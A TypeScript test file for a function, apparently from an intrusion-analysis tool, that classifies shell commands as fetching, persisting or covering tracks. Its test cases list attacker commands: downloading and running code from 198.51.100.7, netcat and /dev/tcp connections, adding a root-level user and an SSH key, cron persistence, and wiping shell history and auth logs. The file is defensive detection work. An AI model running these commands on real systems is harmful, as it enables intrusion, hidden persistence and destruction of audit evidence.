import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { markCommand } from '../../src/correlate/command-marks.js';

function marks(command: string): string {
  const { isFetching, isPersisting, isCovering } = markCommand(command);
  return [isFetching && 'fetch', isPersisting && 'persist', isCovering && 'cover'].filter(Boolean).join(' ');
}

describe('markCommand', () => {
  it.each([
    ['ls -la', ''],
    ['echo wget is a tool', ''],
    ['cat /etc/passwd', ''],
    ['wget http://198.51.100.7/x', 'fetch'],
    ['cd /tmp; /usr/bin/curl -O x && sh x', 'fetch'],
    ['A=1 sudo -n nohup busybox tftp -g -r x 198.51.100.7', 'fetch'],
    ['timeout 10s "wget" x', 'fetch'],
    ['if true; then wget x; fi', 'fetch'],
    ['(echo a | nc 198.51.100.7 9)', 'fetch'],
    ['cat < /dev/tcp/198.51.100.7/80', 'fetch'],
    ['x=`curl y`', 'fetch'],
    ['crontab -e', 'persist'],
    ['useradd -o -u 0 toor', 'persist'],
    ['echo ssh-rsa AAAA >> ~/.ssh/authorized_keys', 'persist'],
    ['systemctl enable --now thing', 'persist'],
    ['systemctl status thing', ''],
    ['ls ~/.ssh/authorized_keys', ''],
    ['curl x | tee /etc/cron.d/y', 'fetch persist'],
    ['history -c', 'cover'],
    ['unset HISTFILE', 'cover'],
    ['export HISTFILE=/dev/null', 'cover'],
    ['rm -rf /var/log/auth.log', 'cover'],
    ['> /var/log/wtmp', 'cover'],
    ['tail /var/log/auth.log', ''],
    ['rm -f ~/.bash_history', 'cover'],
    ['wget x; crontab x; history -c', 'fetch persist cover'],
  ])('reads %j as %j', (command, expected) => {
    expect(marks(command)).toBe(expected);
  });

  it('takes anything, and looks no further than it says', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 80 }), (text) => void markCommand(text)));
    expect(marks(`${' '.repeat(20_000)}wget x`)).toBe('');
    expect(marks(`wget ${'>'.repeat(1_000_000)}`)).toBe('fetch');
    expect(marks('systemctl '.repeat(100_000))).toBe('');
    expect(marks(`history ${'-x '.repeat(2000)}`)).toBe('');
  });
});
